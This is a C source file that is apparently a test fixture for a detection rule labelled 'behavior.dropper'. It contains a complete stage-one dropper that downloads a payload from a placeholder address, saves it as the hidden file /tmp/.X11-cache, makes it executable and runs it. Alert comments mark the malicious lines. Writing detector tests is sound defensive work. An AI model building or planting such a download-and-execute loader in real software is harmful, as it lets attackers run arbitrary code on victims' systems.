/*
 * behavior.dropper: a stage-one loader. It connects to a hard-coded
 * address, sends a request line, receives the payload into memory, writes
 * it to a hidden file under /tmp, sets the execute bit with chmod 0755 and
 * exec's it.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#define DROP_PATH "/tmp/.X11-cache"

static unsigned char payload[1 << 20];

int main(void)
{
    struct sockaddr_in sa;
    size_t total = 0;
    ssize_t n;
    int s = socket(AF_INET, SOCK_STREAM, 0);

    memset(&sa, 0, sizeof(sa));
    sa.sin_family = AF_INET;
    sa.sin_port = htons(8080);
    sa.sin_addr.s_addr = inet_addr("203.0.113.7");
    if (connect(s, (struct sockaddr *)&sa, sizeof(sa)) < 0)
        return 1;
    send(s, "GET /u HTTP/1.0\r\n\r\n", 19, 0);
    while (total < sizeof(payload) && (n = recv(s, payload + total, sizeof(payload) - total, 0)) > 0)
        total += (size_t)n;
    close(s);

    int fd = open(DROP_PATH, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd < 0)
        return 1;
    write(fd, payload, total);
    close(fd);
    chmod(DROP_PATH, 0755); // $ Alert[behavior.dropper]
    execl(DROP_PATH, ".X11-cache", (char *)NULL); // $ Alert[behavior.dropper]
    return 0;
}
